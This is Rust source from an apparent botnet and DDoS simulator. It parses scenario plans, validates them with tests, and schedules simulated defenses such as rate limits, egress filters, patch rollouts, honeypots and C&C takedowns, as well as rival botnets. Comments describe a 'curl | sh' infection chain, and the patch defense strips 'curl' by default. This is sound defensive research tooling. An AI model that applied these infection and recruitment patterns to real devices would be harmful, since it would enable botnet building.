            for (ra, rb) in cell_a.rows.iter().zip(&cell_b.rows) {
                assert_eq!(repr(ra), repr(rb), "re-run must reproduce the sweep");
            }
        }
        // Identical parameters + pinned noise ⇒ identical outcomes.
        for (ra, rb) in a[0].rows.iter().zip(&a[1].rows) {
            assert_eq!(repr(ra), repr(rb), "paired cells share their noise");
        }
        // Streamed rows are the returned rows.
        for (c, cell) in a.iter().enumerate() {
            for (r, row) in cell.rows.iter().enumerate() {
                assert_eq!(
                    streamed[c * 2 + r].as_deref(),
                    Some(repr(row).as_str()),
                    "cell {c} rep {r}"
                );
            }
        }
    }
}
