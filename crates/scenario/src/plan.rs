//! The `ddosim.scenario/1` plan document: parsing and validation.
//!
//! A scenario plan is one checked-in djson file composing a world
//! (topology, churn, recruitment), an attack schedule, a fault plan, and a
//! set of scheduled defenses. Parsing is strict — wrong schema tags,
//! unknown fields at every object level, and out-of-range values are all
//! rejected with a typed [`PlanError`] before any world is built.

use churn::ChurnMode;
use ddosim_core::{AttackSpec, Recruitment, SimulationConfig, TopologyKind};
use djson::Json;
use faults::{check_schema, reject_unknown_fields, FaultPlan, PlanError};
use protocols::AttackVector;
use std::time::Duration;

/// Schema tag every scenario plan must carry.
pub const SCENARIO_SCHEMA: &str = "ddosim.scenario/1";

/// Document name used in every [`PlanError`] this parser emits.
pub(crate) const DOC: &str = "scenario";

/// Fields allowed at the top level of a scenario document.
const TOP_FIELDS: &[&str] = &[
    "schema", "name", "description", "seed", "world", "attack", "faults", "defenses", "rivals",
];

/// Fields allowed in `scenario.world`.
const WORLD_FIELDS: &[&str] = &[
    "devs", "seed", "sim_time_secs", "attack_at_secs", "recruitment", "churn", "topology",
    "reboot_rate_per_min",
];

/// Fields allowed in `scenario.attack`.
const ATTACK_FIELDS: &[&str] = &["vector", "duration_secs", "port", "payload_bytes"];

/// Fields allowed in `scenario.rivals`.
const RIVAL_FIELDS: &[&str] =
    &["count", "start_secs", "interval_secs", "process_name", "flood_rate_bps"];

/// One scheduled defense deployment.
#[derive(Debug, Clone, PartialEq)]
pub enum DefenseSpec {
    /// Target-side per-source rate limiting on the TServer node
    /// (structured [`netsim::FilterRule::RateLimit`], built from
    /// [`analysis::mitigation::RateLimiter`]).
    RateLimit {
        /// Deployment time.
        at: Duration,
        /// Sustained allowance per source, bits per second.
        rate_bps: u64,
        /// Burst allowance per source, bytes.
        burst_bytes: u64,
    },
    /// ISP egress filtering on the fabric (router) node: traffic to the
    /// victim dies at the provider edge.
    EgressFilter {
        /// Deployment time.
        at: Duration,
        /// Restrict the block to one destination port (`None` = all).
        port: Option<u16>,
    },
    /// Staged firmware-patch rollout: devices are patched (commands
    /// removed, device rebooted) in randomized waves.
    PatchRollout {
        /// First wave time.
        start: Duration,
        /// Delay between waves.
        wave_interval: Duration,
        /// Number of waves the fleet is split into.
        waves: u32,
        /// Shell commands the patch removes (default `["curl"]` — breaks
        /// the paper's `curl | sh` infection chain).
        remove: Vec<String>,
    },
    /// Honeypot nodes that attract scanners and feed the simulator-global
    /// blocklist; a [`netsim::FilterRule::Blocklist`] rule armed on the
    /// fabric node enforces it.
    Honeypot {
        /// How many honeypot nodes to attach (sets
        /// [`SimulationConfig::honeypots`]).
        count: u16,
        /// When the fabric-level blocklist rule is armed.
        blocklist_at: Duration,
    },
    /// C&C takedown: the attacker host is powered off at `at`. Bots with
    /// a compiled-in fallback chain rotate to backup C&C hosts.
    CncTakedown {
        /// Takedown time.
        at: Duration,
        /// Backup C&C hosts to attach (sets
        /// [`SimulationConfig::backup_cncs`]) — the adversary's counter
        /// to the takedown; 0 models a botnet with a single point of
        /// failure.
        backups: u16,
    },
}

impl DefenseSpec {
    /// Stable kind string (matches the plan file's `kind` field).
    pub fn kind(&self) -> &'static str {
        match self {
            DefenseSpec::RateLimit { .. } => "rate_limit",
            DefenseSpec::EgressFilter { .. } => "egress_filter",
            DefenseSpec::PatchRollout { .. } => "patch_rollout",
            DefenseSpec::Honeypot { .. } => "honeypot",
            DefenseSpec::CncTakedown { .. } => "cnc_takedown",
        }
    }
}

/// A rival botnet competing for the same device fleet: rival bots carry a
/// recognizable process name, register with their own C&C, and fight the
/// primary botnet through Mirai's killer module and the single-instance
/// port.
#[derive(Debug, Clone, PartialEq)]
pub struct RivalSpec {
    /// Devices the rival attempts to take over.
    pub count: u32,
    /// First takeover attempt.
    pub start: Duration,
    /// Delay between successive takeover attempts.
    pub interval: Duration,
    /// Rival family process name; must be one of
    /// [`malware::RIVAL_NAMES`] or the killer module would never see it.
    pub process_name: String,
    /// Rival bot flood pacing (unused until the rival attacks; kept for
    /// parity with the primary botnet's loader).
    pub flood_rate_bps: u64,
}

/// A parsed, validated scenario plan.
#[derive(Debug, Clone)]
pub struct ScenarioPlan {
    /// Human-readable scenario name (row label in sweep output).
    pub name: String,
    /// Scenario-stream seed, XOR-folded with the world seed and
    /// [`crate::SCENARIO_TAG`] into the scenario's own RNG stream.
    pub seed: u64,
    /// The composed world configuration (defaults overridden by the
    /// plan's `world`, `attack`, `faults`, and defense-implied knobs).
    config: SimulationConfig,
    /// Scheduled defenses, in plan order.
    pub defenses: Vec<DefenseSpec>,
    /// Rival-botnet pressure, if any.
    pub rivals: Option<RivalSpec>,
}

/// Reads an optional field as u64, rejecting wrong shapes loudly.
fn opt_u64(json: &Json, ctx: &str, field: &str) -> Result<Option<u64>, PlanError> {
    match json.get(field) {
        None | Some(Json::Null) => Ok(None),
        Some(v) => v
            .as_u64()
            .map(Some)
            .ok_or_else(|| PlanError::invalid(DOC, format!("{ctx}.{field} must be an unsigned integer"))),
    }
}

/// Reads an optional field as f64.
fn opt_f64(json: &Json, ctx: &str, field: &str) -> Result<Option<f64>, PlanError> {
    match json.get(field) {
        None | Some(Json::Null) => Ok(None),
        Some(v) => v
            .as_f64()
            .map(Some)
            .ok_or_else(|| PlanError::invalid(DOC, format!("{ctx}.{field} must be a number"))),
    }
}

/// Reads an optional field as a string slice.
fn opt_str<'a>(json: &'a Json, ctx: &str, field: &str) -> Result<Option<&'a str>, PlanError> {
    match json.get(field) {
        None | Some(Json::Null) => Ok(None),
        Some(v) => v
            .as_str()
            .map(Some)
            .ok_or_else(|| PlanError::invalid(DOC, format!("{ctx}.{field} must be a string"))),
    }
}

/// Reads an optional `*_secs` field as a [`Duration`] (fractional ok).
fn opt_secs(json: &Json, ctx: &str, field: &str) -> Result<Option<Duration>, PlanError> {
    match opt_f64(json, ctx, field)? {
        None => Ok(None),
        Some(secs) if secs.is_finite() && secs >= 0.0 => Ok(Some(Duration::from_secs_f64(secs))),
        Some(secs) => Err(PlanError::invalid(
            DOC,
            format!("{ctx}.{field} must be a non-negative number of seconds, got {secs}"),
        )),
    }
}

/// Parses the CLI-style recruitment spec (`memory-error`,
/// `scanner:<fraction>`, `worm:<fraction>:<seeds>`).
fn parse_recruitment(spec: &str) -> Result<Recruitment, PlanError> {
    let parts: Vec<&str> = spec.split(':').collect();
    let bad = |what: &str| PlanError::invalid(DOC, format!("world.recruitment: {what} in '{spec}'"));
    match parts.as_slice() {
        ["memory-error"] => Ok(Recruitment::MemoryError),
        ["scanner", f] => Ok(Recruitment::CredentialScanner {
            default_credential_fraction: f.parse().map_err(|_| bad("bad credential fraction"))?,
        }),
        ["worm", f, s] => Ok(Recruitment::SelfPropagating {
            default_credential_fraction: f.parse().map_err(|_| bad("bad credential fraction"))?,
            seeds: s.parse().map_err(|_| bad("bad seed count"))?,
        }),
        _ => Err(bad("unknown recruitment mode")),
    }
}

/// Parses the CLI-style topology spec (`star`, `wifi`,
/// `tiered:<regions>:<uplink_bps>`).
fn parse_topology(spec: &str) -> Result<TopologyKind, PlanError> {
    let parts: Vec<&str> = spec.split(':').collect();
    let bad = || PlanError::invalid(DOC, format!("world.topology: unknown spec '{spec}'"));
    match parts.as_slice() {
        ["star"] => Ok(TopologyKind::Star),
        ["wifi"] => Ok(TopologyKind::Wifi),
        ["tiered", r, bps] => Ok(TopologyKind::Tiered {
            regions: r.parse().map_err(|_| bad())?,
            region_uplink_bps: bps.parse().map_err(|_| bad())?,
        }),
        _ => Err(bad()),
    }
}

/// Applies `scenario.world` overrides onto the default configuration.
fn apply_world(config: &mut SimulationConfig, world: &Json) -> Result<(), PlanError> {
    reject_unknown_fields(world, DOC, "scenario.world", WORLD_FIELDS)?;
    if let Some(devs) = opt_u64(world, "world", "devs")? {
        config.devs = devs as usize;
    }
    if let Some(seed) = opt_u64(world, "world", "seed")? {
        config.seed = seed;
    }
    if let Some(t) = opt_secs(world, "world", "sim_time_secs")? {
        config.sim_time = t;
    }
    if let Some(t) = opt_secs(world, "world", "attack_at_secs")? {
        config.attack_at = t;
    }
    if let Some(spec) = opt_str(world, "world", "recruitment")? {
        config.recruitment = parse_recruitment(spec)?;
    }
    if let Some(mode) = opt_str(world, "world", "churn")? {
        config.churn = match mode {
            "none" => ChurnMode::None,
            "static" => ChurnMode::Static,
            "dynamic" => ChurnMode::Dynamic,
            other => {
                return Err(PlanError::invalid(
                    DOC,
                    format!("world.churn: unknown mode '{other}'"),
                ))
            }
        };
    }
    if let Some(spec) = opt_str(world, "world", "topology")? {
        config.topology = parse_topology(spec)?;
    }
    if let Some(rate) = opt_f64(world, "world", "reboot_rate_per_min")? {
        if !rate.is_finite() || rate < 0.0 {
            return Err(PlanError::invalid(
                DOC,
                format!("world.reboot_rate_per_min must be non-negative, got {rate}"),
            ));
        }
        config.reboot_rate_per_min = rate;
    }
    Ok(())
}

/// Applies `scenario.attack` overrides onto the default attack spec.
fn apply_attack(config: &mut SimulationConfig, attack: &Json) -> Result<(), PlanError> {
    reject_unknown_fields(attack, DOC, "scenario.attack", ATTACK_FIELDS)?;
    let mut spec = AttackSpec::default();
    if let Some(v) = opt_str(attack, "attack", "vector")? {
        spec.vector = AttackVector::parse(v)
            .ok_or_else(|| PlanError::invalid(DOC, format!("attack.vector: unknown vector '{v}'")))?;
    }
    if let Some(d) = opt_secs(attack, "attack", "duration_secs")? {
        spec.duration = d;
    }
    if let Some(p) = opt_u64(attack, "attack", "port")? {
        spec.port = u16::try_from(p)
            .map_err(|_| PlanError::invalid(DOC, format!("attack.port {p} exceeds 65535")))?;
    }
    spec.payload_bytes = match opt_u64(attack, "attack", "payload_bytes")? {
        None => None,
        Some(b) => Some(u32::try_from(b).map_err(|_| {
            PlanError::invalid(DOC, format!("attack.payload_bytes {b} exceeds u32"))
        })?),
    };
    config.attack = spec;
    Ok(())
}

/// Parses one `defenses[i]` entry.
fn parse_defense(entry: &Json, i: usize) -> Result<DefenseSpec, PlanError> {
    let ctx = format!("defense #{i}");
    let kind = opt_str(entry, &ctx, "kind")?
        .ok_or_else(|| PlanError::invalid(DOC, format!("{ctx} is missing 'kind'")))?
        .to_owned();
    let at = |field: &str, default: Duration| -> Result<Duration, PlanError> {
        Ok(opt_secs(entry, &ctx, field)?.unwrap_or(default))
    };
    match kind.as_str() {
        "rate_limit" => {
            reject_unknown_fields(entry, DOC, &ctx, &["kind", "at_secs", "rate_bps", "burst_bytes"])?;
            let defaults = analysis::mitigation::RateLimiter::default();
            Ok(DefenseSpec::RateLimit {
                at: at("at_secs", Duration::ZERO)?,
                rate_bps: opt_u64(entry, &ctx, "rate_bps")?.unwrap_or(defaults.rate_bps),
                burst_bytes: opt_u64(entry, &ctx, "burst_bytes")?.unwrap_or(defaults.burst_bytes),
            })
        }
        "egress_filter" => {
            reject_unknown_fields(entry, DOC, &ctx, &["kind", "at_secs", "port"])?;
            let port = match opt_u64(entry, &ctx, "port")? {
                None => None,
                Some(p) => Some(u16::try_from(p).map_err(|_| {
                    PlanError::invalid(DOC, format!("{ctx}.port {p} exceeds 65535"))
                })?),
            };
            Ok(DefenseSpec::EgressFilter { at: at("at_secs", Duration::ZERO)?, port })
        }
        "patch_rollout" => {
            reject_unknown_fields(
                entry,
                DOC,
                &ctx,
                &["kind", "start_secs", "wave_interval_secs", "waves", "remove"],
            )?;
            let waves = opt_u64(entry, &ctx, "waves")?.unwrap_or(1);
            if waves == 0 {
                return Err(PlanError::invalid(DOC, format!("{ctx}.waves must be at least 1")));
            }
            let remove = match entry.get("remove") {
                None | Some(Json::Null) => vec!["curl".to_owned()],
                Some(Json::Arr(items)) => {
                    let mut cmds = Vec::with_capacity(items.len());
                    for item in items {
                        cmds.push(
                            item.as_str()
                                .ok_or_else(|| {
                                    PlanError::invalid(
                                        DOC,
                                        format!("{ctx}.remove entries must be strings"),
                                    )
                                })?
                                .to_owned(),
                        );
                    }
                    if cmds.is_empty() {
                        return Err(PlanError::invalid(
                            DOC,
                            format!("{ctx}.remove must not be empty"),
                        ));
                    }
                    cmds
                }
                Some(_) => {
                    return Err(PlanError::invalid(DOC, format!("{ctx}.remove must be an array")))
                }
            };
            Ok(DefenseSpec::PatchRollout {
                start: at("start_secs", Duration::ZERO)?,
                wave_interval: opt_secs(entry, &ctx, "wave_interval_secs")?
                    .unwrap_or(Duration::from_secs(10)),
                waves: waves as u32,
                remove,
            })
        }
        "honeypot" => {
            reject_unknown_fields(entry, DOC, &ctx, &["kind", "count", "blocklist_at_secs"])?;
            let count = opt_u64(entry, &ctx, "count")?.unwrap_or(1);
            if count == 0 || count > u64::from(u16::MAX) {
                return Err(PlanError::invalid(
                    DOC,
                    format!("{ctx}.count must be between 1 and 65535, got {count}"),
                ));
            }
            Ok(DefenseSpec::Honeypot {
                count: count as u16,
                blocklist_at: at("blocklist_at_secs", Duration::ZERO)?,
            })
        }
        "cnc_takedown" => {
            reject_unknown_fields(entry, DOC, &ctx, &["kind", "at_secs", "backups"])?;
            let backups = opt_u64(entry, &ctx, "backups")?.unwrap_or(0);
            if backups > u64::from(u16::MAX) {
                return Err(PlanError::invalid(
                    DOC,
                    format!("{ctx}.backups {backups} exceeds 65535"),
                ));
            }
            Ok(DefenseSpec::CncTakedown {
                at: at("at_secs", Duration::ZERO)?,
                backups: backups as u16,
            })
        }
        other => Err(PlanError::invalid(
            DOC,
            format!(
                "{ctx}: unknown kind '{other}' (expected rate_limit, egress_filter, \
                 patch_rollout, honeypot, or cnc_takedown)"
            ),
        )),
    }
}

/// Parses `scenario.rivals`.
fn parse_rivals(entry: &Json) -> Result<RivalSpec, PlanError> {
    reject_unknown_fields(entry, DOC, "scenario.rivals", RIVAL_FIELDS)?;
    let count = opt_u64(entry, "rivals", "count")?.unwrap_or(1);
    if count == 0 {
        return Err(PlanError::invalid(DOC, "rivals.count must be at least 1"));
    }
    let process_name = opt_str(entry, "rivals", "process_name")?.unwrap_or("qbot").to_owned();
    if !malware::RIVAL_NAMES.contains(&process_name.as_str()) {
        return Err(PlanError::invalid(
            DOC,
            format!(
                "rivals.process_name '{process_name}' is not a known rival family \
                 (expected one of {:?})",
                malware::RIVAL_NAMES
            ),
        ));
    }
    Ok(RivalSpec {
        count: count as u32,
        start: opt_secs(entry, "rivals", "start_secs")?.unwrap_or(Duration::from_secs(10)),
        interval: opt_secs(entry, "rivals", "interval_secs")?.unwrap_or(Duration::from_secs(5)),
        process_name,
        flood_rate_bps: opt_u64(entry, "rivals", "flood_rate_bps")?
            .unwrap_or(malware::DEFAULT_FLOOD_RATE_BPS),
    })
}

impl ScenarioPlan {
    /// Parses and validates a scenario document.
    ///
    /// # Errors
    ///
    /// A typed [`PlanError`] naming the first syntax, schema,
    /// unknown-field, or range problem.
    pub fn parse(text: &str) -> Result<Self, PlanError> {
        let json = Json::parse(text).map_err(|e| PlanError::syntax(DOC, e))?;
        check_schema(&json, DOC, SCENARIO_SCHEMA)?;
        reject_unknown_fields(&json, DOC, "scenario", TOP_FIELDS)?;
        let name = opt_str(&json, "scenario", "name")?
            .ok_or_else(|| PlanError::invalid(DOC, "scenario is missing 'name'"))?
            .to_owned();
        let seed = opt_u64(&json, "scenario", "seed")?.unwrap_or(0);

        let mut config = SimulationConfig::default();
        if let Some(world) = json.get("world") {
            apply_world(&mut config, world)?;
        }
        if let Some(attack) = json.get("attack") {
            apply_attack(&mut config, attack)?;
        }
        if let Some(faults) = json.get("faults") {
            // A full embedded ddosim.faults.plan/1 document, validated by
            // its own strict parser.
            config.faults = FaultPlan::parse_plan(&faults.to_string_compact())?;
        }

        let mut defenses = Vec::new();
        if let Some(list) = json.get("defenses") {
            let Json::Arr(items) = list else {
                return Err(PlanError::invalid(DOC, "scenario.defenses must be an array"));
            };
            for (i, entry) in items.iter().enumerate() {
                defenses.push(parse_defense(entry, i)?);
            }
        }
        // Honeypot and takedown deployments shape the world at build time
        // (extra nodes, served binaries), so more than one of each would
        // be ambiguous.
        for unique in ["honeypot", "cnc_takedown"] {
            if defenses.iter().filter(|d| d.kind() == unique).count() > 1 {
                return Err(PlanError::invalid(
                    DOC,
                    format!("at most one '{unique}' defense is allowed per scenario"),
                ));
            }
        }
        for d in &defenses {
            match *d {
                DefenseSpec::Honeypot { count, .. } => config.honeypots = count,
                DefenseSpec::CncTakedown { backups, .. } => config.backup_cncs = backups,
                _ => {}
            }
        }

        let rivals = match json.get("rivals") {
            None | Some(Json::Null) => None,
            Some(entry) => Some(parse_rivals(entry)?),
        };

        config.validate().map_err(|m| PlanError::invalid(DOC, m))?;
        Ok(ScenarioPlan { name, seed, config, defenses, rivals })
    }

    /// The fully-composed world configuration this plan describes. The
    /// caller may adjust observation knobs (telemetry) before building;
    /// world-shaping fields must stay as composed or
    /// [`ScenarioPlan::install`]'s scheduling would not match the plan.
    pub fn config(&self) -> SimulationConfig {
        self.config.clone()
    }

    /// Whether the plan needs the scenario RNG stream (any randomized
    /// feature: patch-rollout shuffling or rival target selection). Plans
    /// without one never construct the stream, keeping an empty scenario
    /// a strict no-op.
    pub fn needs_rng(&self) -> bool {
        self.rivals.is_some()
            || self.defenses.iter().any(|d| matches!(d, DefenseSpec::PatchRollout { .. }))
    }

    /// Repoints the plan's run seed and per-subsystem RNG plan — the hook
    /// CRN grid sweeps (the [`crate::sweep`] module) use to give every
    /// paired cell of a replicate identical noise streams. The scenario's
    /// own stream (`seed ^ plan.seed ^ SCENARIO_TAG`) derives from the run
    /// seed, so cells sharing a run seed share it automatically.
    pub fn pin_noise(&mut self, seed: u64, rng: ddosim_core::RngPlan) {
        self.config.seed = seed;
        self.config.rng = rng;
    }

    /// Mutable access to the composed configuration for sibling modules.
    /// Grid constructors must keep defense-implied world shape
    /// (honeypots, backup C&Cs) in sync with the defense list, which is
    /// why the field itself stays private.
    pub(crate) fn config_mut(&mut self) -> &mut SimulationConfig {
        &mut self.config
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn minimal(extra: &str) -> String {
        format!(r#"{{"schema":"ddosim.scenario/1","name":"t"{extra}}}"#)
    }

    #[test]
    fn minimal_plan_parses_to_defaults() {
        let plan = ScenarioPlan::parse(&minimal("")).expect("minimal plan");
        assert_eq!(plan.name, "t");
        assert_eq!(plan.seed, 0);
        assert!(plan.defenses.is_empty());
        assert!(plan.rivals.is_none());
        assert!(!plan.needs_rng());
        // SimulationConfig has no PartialEq; its canonical JSON form is
        // the stable equality surface the checkpoint layer already uses.
        assert_eq!(
            ddosim_core::checkpoint::config_to_json(&plan.config()).to_string_compact(),
            ddosim_core::checkpoint::config_to_json(&SimulationConfig::default())
                .to_string_compact()
        );
    }

    #[test]
    fn world_and_attack_overrides_apply() {
        let plan = ScenarioPlan::parse(&minimal(
            r#","seed":9,"world":{"devs":6,"seed":7,"sim_time_secs":45,
               "attack_at_secs":20,"recruitment":"scanner:0.6","churn":"dynamic"},
              "attack":{"vector":"http","duration_secs":15,"port":8080}"#,
        ))
        .expect("plan");
        let c = plan.config();
        assert_eq!(plan.seed, 9);
        assert_eq!(c.devs, 6);
        assert_eq!(c.seed, 7);
        assert_eq!(c.sim_time, Duration::from_secs(45));
        assert_eq!(c.attack_at, Duration::from_secs(20));
        assert_eq!(c.churn, ChurnMode::Dynamic);
        assert_eq!(
            c.recruitment,
            Recruitment::CredentialScanner { default_credential_fraction: 0.6 }
        );
        assert_eq!(c.attack.vector, AttackVector::Http);
        assert_eq!(c.attack.duration, Duration::from_secs(15));
        assert_eq!(c.attack.port, 8080);
    }

    #[test]
    fn defense_entries_parse_with_defaults() {
        let plan = ScenarioPlan::parse(&minimal(
            r#","defenses":[
                {"kind":"rate_limit","at_secs":30},
                {"kind":"egress_filter","at_secs":35,"port":80},
                {"kind":"patch_rollout","start_secs":10,"waves":3},
                {"kind":"honeypot","count":2},
                {"kind":"cnc_takedown","at_secs":40,"backups":1}
            ]"#,
        ))
        .expect("plan");
        assert_eq!(plan.defenses.len(), 5);
        assert!(plan.needs_rng(), "patch rollout randomizes wave order");
        let c = plan.config();
        assert_eq!(c.honeypots, 2, "honeypot defense shapes the world");
        assert_eq!(c.backup_cncs, 1, "takedown backups shape the world");
        assert_eq!(
            plan.defenses[0],
            DefenseSpec::RateLimit {
                at: Duration::from_secs(30),
                rate_bps: analysis::mitigation::RateLimiter::default().rate_bps,
                burst_bytes: analysis::mitigation::RateLimiter::default().burst_bytes,
            }
        );
        assert_eq!(
            plan.defenses[2],
            DefenseSpec::PatchRollout {
                start: Duration::from_secs(10),
                wave_interval: Duration::from_secs(10),
                waves: 3,
                remove: vec!["curl".to_owned()],
            }
        );
    }

    #[test]
    fn rivals_parse_and_validate_family_name() {
        let plan = ScenarioPlan::parse(&minimal(
            r#","rivals":{"count":3,"start_secs":15,"interval_secs":10}"#,
        ))
        .expect("plan");
        let rivals = plan.rivals.as_ref().expect("rivals");
        assert_eq!(rivals.count, 3);
        assert_eq!(rivals.process_name, "qbot");
        assert!(plan.needs_rng());

        let err = ScenarioPlan::parse(&minimal(r#","rivals":{"process_name":"mirai"}"#))
            .expect_err("unknown family");
        assert!(err.to_string().contains("not a known rival family"), "{err}");
    }

    #[test]
    fn embedded_fault_plan_is_strictly_parsed() {
        let plan = ScenarioPlan::parse(&minimal(
            r#","faults":{"schema":"ddosim.faults.plan/1","seed":3,"faults":[
                {"at_secs":12,"kind":"link_down","node":"dev-0"}]}"#,
        ))
        .expect("plan");
        assert_eq!(plan.config().faults.faults.len(), 1);

        let err = ScenarioPlan::parse(&minimal(
            r#","faults":{"schema":"ddosim.faults.plan/1","seed":3,"faults":[
                {"at_secs":12,"kind":"link_down","node":"dev-0","oops":1}]}"#,
        ))
        .expect_err("unknown fault field");
        assert!(err.to_string().contains("oops"), "{err}");
    }

    /// Table of rejection cases: each must fail with a message containing
    /// the fragment.
    #[test]
    fn rejection_table() {
        let cases: &[(String, &str)] = &[
            ("not json".to_owned(), "scenario"),
            (r#"{"name":"t"}"#.to_owned(), "missing 'schema'"),
            (
                r#"{"schema":"ddosim.scenario/2","name":"t"}"#.to_owned(),
                "unsupported scenario schema",
            ),
            (minimal(r#","extra":1"#), "unknown field 'extra'"),
            (
                r#"{"schema":"ddosim.scenario/1"}"#.to_owned(),
                "missing 'name'",
            ),
            (minimal(r#","world":{"devz":5}"#), "unknown field 'devz' in scenario.world"),
            (minimal(r#","world":{"churn":"sometimes"}"#), "unknown mode"),
            (minimal(r#","world":{"recruitment":"worm:0.5"}"#), "unknown recruitment mode"),
            (minimal(r#","world":{"topology":"mesh"}"#), "unknown spec"),
            (minimal(r#","attack":{"vector":"teardrop"}"#), "unknown vector"),
            (minimal(r#","attack":{"port":70000}"#), "exceeds 65535"),
            (minimal(r#","defenses":[{"at_secs":1}]"#), "missing 'kind'"),
            (minimal(r#","defenses":[{"kind":"prayer"}]"#), "unknown kind 'prayer'"),
            (
                minimal(r#","defenses":[{"kind":"rate_limit","rate":1}]"#),
                "unknown field 'rate'",
            ),
            (
                minimal(r#","defenses":[{"kind":"patch_rollout","waves":0}]"#),
                "waves must be at least 1",
            ),
            (
                minimal(r#","defenses":[{"kind":"patch_rollout","remove":[]}]"#),
                "must not be empty",
            ),
            (
                minimal(r#","defenses":[{"kind":"honeypot","count":0}]"#),
                "between 1 and 65535",
            ),
            (
                minimal(
                    r#","defenses":[{"kind":"honeypot"},{"kind":"honeypot"}]"#,
                ),
                "at most one 'honeypot'",
            ),
            (minimal(r#","rivals":{"count":0}"#), "at least 1"),
            (minimal(r#","world":{"devs":0}"#), "scenario"),
            (minimal(r#","world":{"attack_at_secs":-3}"#), "non-negative"),
        ];
        for (text, fragment) in cases {
            match ScenarioPlan::parse(text) {
                Err(err) => assert!(
                    err.to_string().contains(fragment),
                    "plan {text:?}: error {err} does not mention {fragment:?}"
                ),
                Ok(_) => panic!("plan {text:?} unexpectedly accepted"),
            }
        }
    }
}
