//! Scenario execution: turning a parsed plan into scheduled, forkable
//! simulator work.
//!
//! Every deployment is a [`netsim::Simulator::schedule_forkable_call`] —
//! plain data plus a `fn` pointer — so a scenario-bearing world forks,
//! checkpoints, and suffix-sweeps exactly like a plain one. Randomized
//! choices (patch-wave order, rival target order) draw from the scenario's
//! own RNG stream, seeded `world_seed ^ plan_seed ^ SCENARIO_TAG`, so they
//! perturb neither the simulator's main nor fault stream.

use crate::plan::{DefenseSpec, RivalSpec, ScenarioPlan};
use analysis::RateLimiter;
use ddosim_core::reboot::DAEMON_NAMES;
use ddosim_core::Ddosim;
use firmware::{CommandSet, ContainerHandle};
use malware::{Bot, CncServer};
use netsim::{Category, FilterRule, LinkConfig, NodeId, SimTime, Simulator};
use rand::rngs::SmallRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

/// Domain-separation tag folded into the scenario RNG stream's seed, so
/// the stream can never collide with the simulator's main (`seed`), fault
/// (`seed ^ 0xFA17`), or build (`seed ^ 0xB111D`) streams.
pub const SCENARIO_TAG: u64 = 0x5CE_A210;

/// Emits a defense-category flight-recorder event from a scheduled call.
fn record_defense(sim: &Simulator, node: NodeId, detail: String) {
    let now = sim.now().as_nanos();
    sim.telemetry()
        .record_event(now, Some(node.index() as u32), Category::Defense, || detail);
}

/// Deploys the per-source rate limiter on the victim's node.
fn deploy_rate_limit(sim: &mut Simulator, data: (NodeId, u64, u64)) {
    let (node, rate_bps, burst_bytes) = data;
    record_defense(
        sim,
        node,
        format!(
            "rate limiter deployed on tserver: {rate_bps} bps, {burst_bytes} B burst per source"
        ),
    );
    sim.push_node_filter(node, RateLimiter { rate_bps, burst_bytes }.into_rule());
}

/// Deploys ISP egress filtering for the victim on the fabric node.
fn deploy_egress_filter(sim: &mut Simulator, data: (NodeId, IpAddr, Option<u16>)) {
    let (node, dst, port) = data;
    record_defense(
        sim,
        node,
        match port {
            Some(p) => format!("egress filter deployed at ISP: blocking traffic to {dst}:{p}"),
            None => format!("egress filter deployed at ISP: blocking all traffic to {dst}"),
        },
    );
    sim.push_node_filter(node, FilterRule::EgressBlock { dst, port });
}

/// Arms the honeypot-fed blocklist on the fabric node.
fn arm_blocklist(sim: &mut Simulator, node: NodeId) {
    record_defense(
        sim,
        node,
        "honeypot blocklist armed at ISP: trapped sources are dropped".to_owned(),
    );
    sim.push_node_filter(node, FilterRule::Blocklist);
}

/// Powers the C&C host off — the takedown.
fn takedown_cnc(sim: &mut Simulator, node: NodeId) {
    record_defense(sim, node, "C&C takedown: attacker host seized and powered off".to_owned());
    sim.set_node_admin(node, false);
}

/// Patches one wave of devices: the hardened command set replaces the
/// firmware's, and the device reboots (volatile malware dies; a patched
/// device cannot re-run the `curl | sh` stage-1).
fn patch_wave(sim: &mut Simulator, data: (Vec<(NodeId, ContainerHandle)>, Vec<String>, u32)) {
    let (wave, remove, wave_idx) = data;
    let removed: Vec<&str> = remove.iter().map(String::as_str).collect();
    for (node, container) in wave {
        container.state_mut().commands = CommandSet::without(&removed);
        for app in container.reboot(sim.now(), &DAEMON_NAMES) {
            sim.remove_app(app);
        }
        record_defense(
            sim,
            node,
            format!("patch wave {wave_idx}: firmware updated, {removed:?} removed, device rebooted"),
        );
    }
}

/// Installs a rival-family bot on one device. The rival carries a
/// recognizable process name (so the primary botnet's killer module can
/// hunt it), holds the single-instance port, and — like Hajime and the
/// qbot lineage — locks the door behind it: the download toolchain is
/// stripped so a later `curl | sh` stage-1 from a competitor fails.
fn install_rival(sim: &mut Simulator, data: ((NodeId, ContainerHandle), (SocketAddr, u64, String))) {
    let ((node, container), (rival_cnc, rate_bps, name)) = data;
    let now = sim.now().as_nanos();
    sim.telemetry().record_event(now, Some(node.index() as u32), Category::Infection, || {
        format!("rival family '{name}' attempts takeover (C&C {rival_cnc}); curl stripped")
    });
    container.state_mut().commands = CommandSet::without(&["curl"]);
    let exec_path = format!("/tmp/{name}");
    let pid = container.register_proc(name.clone(), None, Vec::new());
    let bot = Bot::new(container.clone(), rival_cnc, exec_path, pid, rate_bps, Duration::ZERO)
        .with_process_name(name);
    let app = sim.install_app(node, Box::new(bot));
    container.state_mut().procs.set_app(pid, app);
}

impl ScenarioPlan {
    /// Builds the plan's world and installs every scheduled deployment.
    ///
    /// # Errors
    ///
    /// Returns a message if the composed configuration fails validation.
    pub fn build(&self) -> Result<Ddosim, String> {
        self.build_with_telemetry(netsim::TelemetryConfig::default())
    }

    /// Like [`ScenarioPlan::build`], with observation knobs layered on
    /// (ORed into the plan's configuration, which never sets any itself).
    ///
    /// # Errors
    ///
    /// Returns a message if the composed configuration fails validation.
    pub fn build_with_telemetry(
        &self,
        telemetry: netsim::TelemetryConfig,
    ) -> Result<Ddosim, String> {
        let mut config = self.config();
        config.telemetry = telemetry;
        let mut world = Ddosim::new(config)?;
        self.install(&mut world)?;
        Ok(world)
    }

    /// Schedules every defense and rival deployment onto an
    /// already-built world. The world must have been built from
    /// [`ScenarioPlan::config`] (honeypot and backup-C&C counts are
    /// build-time world shape; this is checked).
    ///
    /// A plan with no defenses and no rivals schedules nothing and draws
    /// from no RNG — a strict no-op against the plain builder path.
    ///
    /// # Errors
    ///
    /// Returns a message if the world's shape does not match the plan.
